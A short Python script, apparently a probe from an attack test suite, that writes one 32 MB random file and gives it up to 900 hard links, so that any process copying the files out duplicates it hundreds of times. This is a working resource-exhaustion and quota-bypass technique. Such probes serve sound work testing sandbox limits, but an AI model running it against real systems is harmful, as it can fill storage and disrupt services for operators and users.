"""One large file under a thousand names: counted once inside, a thousand times by whoever copies it out."""
import os

from attack import done

with open("first", "wb") as file:
    for _ in range(32):
        file.write(os.urandom(1 << 20))
linked = 0
try:
    while linked < 900:
        os.link("first", "name-%03d" % linked)
        linked += 1
except OSError as error:
    print("info:", error)
done("%d links" % linked)
